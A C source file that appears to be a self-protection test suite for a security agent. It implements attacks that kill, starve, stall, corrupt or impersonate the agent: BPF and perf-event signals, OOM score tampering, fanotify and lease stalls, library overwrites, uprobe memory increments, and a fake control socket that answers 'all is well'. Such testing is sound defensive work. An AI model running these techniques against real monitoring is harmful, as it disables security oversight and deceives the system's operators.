/* SPDX-License-Identifier: GPL-2.0-or-later */
/* code.c - attacks on what the agent runs, and signals that the kernel sends it for somebody. */
#include "attack.h"

#include <bpf/bpf.h>
#include <elf.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/perf_event.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/fanotify.h>
#include <sys/file.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

const char *mapped_file(int argc, char **argv)
{
	const char *want = argc > 0 ? argv[0] : "/libc.so";
	static char line[4096];
	char path[64];
	FILE *f;

	snprintf(path, sizeof(path), "/proc/%d/maps", (int)find_agent());
	f = find_agent() ? fopen(path, "re") : NULL;
	while (f && fgets(line, sizeof(line), f)) {
		char *name = strchr(line, '/');

		if (!name || !strstr(name, want))
			continue;
		name[strcspn(name, "\n")] = 0;
		fclose(f);
		return name;
	}
	if (f)
		fclose(f);
	return NULL;
}

/* The byte that is there: the file stays what it is. */
static int code_write(int argc, char **argv)
{
	const char *path = mapped_file(argc, argv);
	int fd = path ? open(path, O_RDWR | O_CLOEXEC) : -1;
	char byte;

	if (!path)
		return NOTHING;
	return fd < 0 || pread(fd, &byte, 1, 0) != 1 ? -errno : result(pwrite(fd, &byte, 1, 0));
}

static int code_truncate(int argc, char **argv)
{
	const char *path = mapped_file(argc, argv);
	struct stat st;

	return path && !stat(path, &st) ? result(truncate(path, st.st_size)) : NOTHING;
}

static int code_chmod(int argc, char **argv)
{
	const char *path = mapped_file(argc, argv);
	struct stat st;

	return path && !stat(path, &st) ? result(chmod(path, st.st_mode & 07777)) : NOTHING;
}

static int code_xattr(int argc, char **argv)
{
	const char *path = mapped_file(argc, argv);

	return path ? result(setxattr(path, "trusted.attack", "x", 1, 0)) : NOTHING;
}

/* Another file in its place, as an update of the package does it: a copy, renamed over it. */
static int code_replace(int argc, char **argv)
{
	const char *path = mapped_file(argc, argv);
	char command[9000], other[4200];

	if (!path)
		return NOTHING;
	snprintf(other, sizeof(other), "%s.new", path);
	snprintf(command, sizeof(command), "cp -p %s %s && ln -f %s %s.old", path, other, path, path);
	if (system(command))
		return -EIO;
	return result(rename(other, path));
}

/* Is it gone within some seconds? A question to it makes it run. */
static int ended(pid_t pid)
{
	for (int i = 0; i < 8; i++) {
		if (system("kfgate status >/dev/null 2>&1") < 0 || (kill(pid, 0) && errno == ESRCH))
			return 0;
		(void)nanosleep(&(struct timespec){ .tv_nsec = 200000000 }, NULL);
	}
	return -EALREADY; /* it lives on */
}

/* send-signal SIGNAL: by a BPF program that runs in the agent's context */
static int send_signal(int argc, char **argv)
{
	pid_t pid = find_agent();
	struct bpf_insn insns[] = {
		{ .code = BPF_JMP | BPF_CALL, .imm = BPF_FUNC_get_current_pid_tgid },
		{ .code = BPF_ALU64 | BPF_RSH | BPF_K, .dst_reg = 0, .imm = 32 },
		{ .code = BPF_JMP | BPF_JNE | BPF_K, .dst_reg = 0, .off = 2, .imm = pid },
		{ .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = 1, .imm = argc > 0 ? atoi(argv[0]) : SIGTERM },
		{ .code = BPF_JMP | BPF_CALL, .imm = BPF_FUNC_send_signal },
		{ .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = 0 },
		{ .code = BPF_JMP | BPF_EXIT },
	};
	int fd = bpf_prog_load(BPF_PROG_TYPE_RAW_TRACEPOINT, "attack", "GPL", insns, 7, NULL);

	if (!pid)
		return NOTHING;
	return fd < 0 || bpf_raw_tracepoint_open("sys_enter", fd) < 0 ? -errno : ended(pid);
}

static int sigtrap(int argc, char **argv)
{
	struct perf_event_attr attr = {
		.type = PERF_TYPE_SOFTWARE,
		.size = sizeof(attr),
		.config = PERF_COUNT_SW_CONTEXT_SWITCHES,
		.sample_period = 1,
		.sigtrap = 1,
		.remove_on_exec = 1,
	};
	pid_t pid = find_agent();

	(void)argc;
	(void)argv;
	if (!pid)
		return NOTHING;
	return syscall(__NR_perf_event_open, &attr, pid, -1, -1, PERF_FLAG_FD_CLOEXEC) < 0 ? -errno : ended(pid);
}

static int oom_thread(int argc, char **argv)
{
	pid_t pid = find_agent();
	char pattern[64], path[512] = "";
	FILE *f;

	(void)argc;
	(void)argv;
	snprintf(pattern, sizeof(pattern), "ls -d /proc/%d/task/* | tail -n 1", (int)pid);
	f = pid ? popen(pattern, "re") : NULL;
	if (!f || fscanf(f, "%400s", path) != 1)
		return NOTHING;
	pclose(f);
	strcat(path, "/oom_score_adj");
	return write_file(path, "1000");
}

/* hold PATH: whoever opens it waits for an answer */
static int hold(int argc, char **argv)
{
	int fd = fanotify_init(FAN_CLASS_CONTENT | FAN_CLOEXEC, O_RDONLY);

	if (argc < 1 || fd < 0)
		return argc < 1 ? -EINVAL : -errno;
	return result(fanotify_mark(fd, FAN_MARK_ADD, FAN_OPEN_PERM, AT_FDCWD, argv[0]));
}

/* lease FILE: whoever opens it waits until this process gives it back */
static int lease(int argc, char **argv)
{
	int fd = argc > 0 ? open(argv[0], O_RDONLY | O_CLOEXEC) : -1;

	return fd < 0 ? -errno : result(fcntl(fd, F_SETLEASE, F_WRLCK));
}

/* lock-hold FILE SECONDS */
static int lock_hold(int argc, char **argv)
{
	int fd = argc > 1 ? open(argv[0], O_RDWR | O_CREAT | O_CLOEXEC, 0600) : -1;

	if (fd < 0 || flock(fd, LOCK_EX | LOCK_NB))
		return -errno;
	printf("held\n");
	fflush(stdout);
	sleep(atoi(argv[1]));
	return 0;
}

/* delegate DIR [SECONDS]: who makes or renames something in a directory waits until it is given back; 7.3, not 6.12 */
static int delegate(int argc, char **argv)
{
	/* fcntl(2), F_SETDELEG and struct delegation of linux/fcntl.h */
	struct {
		uint32_t flags;
		uint16_t type, pad;
	} delegation = { .type = F_RDLCK };
	int fd = argc > 0 ? open(argv[0], O_RDONLY | O_DIRECTORY | O_CLOEXEC) : -1;

	if (fd < 0)
		return -errno;
	(void)signal(SIGIO, SIG_IGN);
	if (fcntl(fd, 1024 + 16, &delegation))
		return errno == EINVAL ? NOTHING : -errno;
	sleep(argc > 1 ? (unsigned)atoi(argv[1]) : 0);
	return 0;
}

/* control-answer SOCKET: in the place of the agent's control socket, one lie */
static int answer(int argc, char **argv)
{
	static const char lie[] = "0\nall is well\n";
	struct sockaddr_un address = { .sun_family = AF_UNIX };
	int fd = socket(AF_UNIX, SOCK_SEQPACKET | SOCK_CLOEXEC, 0), peer;
	char request[256];

	if (argc < 1 || fd < 0)
		return -EINVAL;
	snprintf(address.sun_path, sizeof(address.sun_path), "%s", argv[0]);
	(void)unlink(argv[0]);
	if (bind(fd, (const struct sockaddr *)&address, sizeof(address)) || listen(fd, 1))
		return -errno;
	printf("listening\n");
	fflush(stdout);
	peer = accept(fd, NULL, NULL);
	if (peer < 0 || recv(peer, request, sizeof(request), 0) < 0)
		return -errno;
	return result(send(peer, lie, sizeof(lie) - 1, 0));
}

/*
 * A probe in user space that is set into a process adds one to a 16 bit word of its memory, wherever a file that it has
 * mapped to be written says so: the semaphore of a probe (ref_ctr_offset, kernel/events/uprobes.c). No hook is asked.
 */
static int probe_counts(const char *path, uint64_t at, uint64_t counter)
{
	struct perf_event_attr attr = {
		.size = sizeof(attr),
		.config = counter << 32,
		.uprobe_path = (uintptr_t)path,
		.probe_offset = at,
	};
	FILE *f = fopen("/sys/bus/event_source/devices/uprobe/type", "re");
	int n = f ? fscanf(f, "%u", &attr.type) : 0;

	if (f)
		fclose(f);
	if (n != 1)
		return -ENOENT;
	return syscall(__NR_perf_event_open, &attr, -1, 0, -1, PERF_FLAG_FD_CLOEXEC) < 0 ? -errno : 0;
}

struct starts {
	uint64_t at[4096];
	int n;
};

/* An instruction begins there: of a function, each once. */
static void add_start(struct starts *starts, const Elf64_Sym *symbol)
{
	if (ELF64_ST_TYPE(symbol->st_info) != STT_FUNC || !symbol->st_value || starts->n == 4096)
		return;
	for (int i = 0; i < starts->n; i++)
		if (starts->at[i] == symbol->st_value)
			return;
	starts->at[starts->n++] = symbol->st_value;
}

/* Where functions begin, by the symbols of a file that is mapped: addresses, which are offsets in all that it tries. */
static void find_starts(const char *base, struct starts *starts)
{
	const Elf64_Ehdr *header = (const void *)base;
	const Elf64_Shdr *s = (const void *)(base + header->e_shoff);

	for (int i = 0; i < header->e_shnum; i++) {
		const Elf64_Sym *symbols = (const void *)(base + s[i].sh_offset);

		if (s[i].sh_type != SHT_SYMTAB && s[i].sh_type != SHT_DYNSYM)
			continue;
		for (size_t k = 0; k < s[i].sh_size / sizeof(*symbols); k++)
			add_start(starts, &symbols[k]);
	}
}

static const char *map_file(const char *path)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	struct stat st;

	if (fd < 0 || fstat(fd, &st))
		return MAP_FAILED;
	return mmap(NULL, (size_t)st.st_size, PROT_READ, MAP_PRIVATE, fd, 0);
}

/* count-memory FILE OFFSET [N [SECONDS]]: one probe adds one; they go with this process */
static int count_memory(int argc, char **argv)
{
	static struct starts starts;
	const char *path = argc > 1 ? mapped_file(argc, argv) : NULL, *base;
	int want = argc > 2 ? atoi(argv[2]) : 1, done = 0, r = -ENOENT;

	if (!path)
		return NOTHING;
	base = map_file(path);
	if (base == MAP_FAILED)
		return -errno;
	find_starts(base, &starts);
	for (int i = 0; i < starts.n && done < want; i++) {
		int err = probe_counts(path, starts.at[i], strtoull(argv[1], NULL, 0));

		done += !err;
		r = err ? err : r;
	}
	sleep(argc > 3 ? (unsigned)atoi(argv[3]) : 0);
	return done == want ? 0 : r;
}

const struct attack attacks_code[] = {
	{ "code-write", code_write, "write to a file that the agent runs from" },
	{ "code-truncate", code_truncate, "truncate it" },
	{ "code-chmod", code_chmod, "change its mode" },
	{ "code-xattr", code_xattr, "change its extended attributes" },
	{ "code-replace", code_replace, "put another in its place (not an attack: updates do that)" },
	{ "send-signal", send_signal, "SIGTERM, or the signal given, by a BPF program in the agent's context" },
	{ "sigtrap", sigtrap, "SIGTRAP by a perf event on it" },
	{ "oom-thread", oom_thread, "the first to go when memory is short, by a thread's file" },
	{ "hold", hold, "be asked before a file is opened, and not answer" },
	{ "lease", lease, "the same by a lease" },
	{ "count-memory", count_memory, "FILE OFFSET [N [SECONDS]]: add to its memory by probes" },
	{ "lock-hold", lock_hold, "hold a lock" },
	{ "delegate", delegate, "DIR [SECONDS]: let nobody change a directory" },
	{ "control-answer", answer, "answer in the agent's place" },
	{},
};
